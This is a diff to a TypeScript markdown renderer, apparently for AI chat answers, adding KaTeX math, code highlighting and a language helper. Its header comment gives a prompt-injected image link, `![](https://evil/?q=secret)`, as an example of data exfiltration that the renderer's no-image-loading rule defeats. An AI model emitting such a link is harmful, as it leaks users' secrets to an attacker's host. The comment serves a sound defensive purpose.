@@ -5,9 +5,15 @@
  * only for http(s) and mailto, open in a new tab without an opener and show their host (see
  * ./links.ts), and images are never loaded: they become links, so a prompt-injected
  * `![](https://evil/?q=secret)` cannot send anything anywhere.
+ *
+ * Formulas are typeset with KaTeX and code blocks highlighted, both loaded only when an answer
+ * has one (./math.ts, ./code-highlight.ts).
  */
 import MarkdownIt, { type Token } from 'markdown-it';
+import { highlightCode } from './code-highlight';
 import { linkTargetOf } from './links';
+import { mathElement } from './math';
+import { type Formula, mathSyntax } from './math-syntax';
 
 const SAFE_LINK = /^(https?:|mailto:)/i;
 
@@ -40,6 +46,7 @@ let parser: ReturnType<typeof createParser> | undefined;
 function createParser() {
   const md = new MarkdownIt({ html: false, linkify: true, typographer: false });
   md.validateLink = (url: string) => SAFE_LINK.test(url.trim());
+  md.use(mathSyntax);
   return md;
 }
 
@@ -47,6 +54,9 @@ function markdownParser() {
   parser ??= createParser();
   return parser;
 }
+
+/** The language a fence's info string names: its first word. */
+const languageOf = (info: string): string => info.trim().split(/\s+/)[0] ?? '';
 
 /** A code block's frame: its language, a Copy button, and the `<pre>` the code goes in. */
 export function codeBlockFrame(
@@ -58,7 +68,7 @@ export function codeBlockFrame(
   const head = doc.createElement('div');
   head.className = 'code-head';
   const language = doc.createElement('span');
-  language.textContent = info.trim().split(/\s+/)[0] || 'code';
+  language.textContent = languageOf(info) || 'code';
   const copy = doc.createElement('button');
   copy.type = 'button';
   copy.className = 'code-copy';
@@ -73,6 +83,7 @@ function codeBlock(doc: Document, info: string, code: string): HTMLElement {
   const { block, pre } = codeBlockFrame(doc, info);
   const element = doc.createElement('code');
   element.textContent = code;
+  highlightCode(element, languageOf(info), code);
   pre.append(element);
   return block;
 }
@@ -162,6 +173,10 @@ function build(doc: Document, tokens: Token[], root: Node): void {
         continue;
       case 'fence':
         top().appendChild(codeBlock(doc, token.info, token.content));
+        continue;
+      case 'math_inline':
+      case 'math_block':
+        top().appendChild(mathElement(doc, token.meta as Formula, token.type === 'math_block'));
         continue;
       case 'image': {
         const { element: link, after } = openLink(
